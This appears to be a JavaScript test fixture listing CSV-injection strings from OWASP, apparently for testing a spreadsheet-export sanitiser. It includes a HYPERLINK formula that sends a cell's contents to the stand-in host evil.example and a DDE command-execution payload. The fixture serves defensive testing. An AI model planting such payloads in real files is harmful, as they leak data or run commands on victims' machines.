/** The usual corpus (OWASP "CSV Injection" and its variants). */
export const INJECTION_CORPUS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  "''+81-3-1234-5678",
];
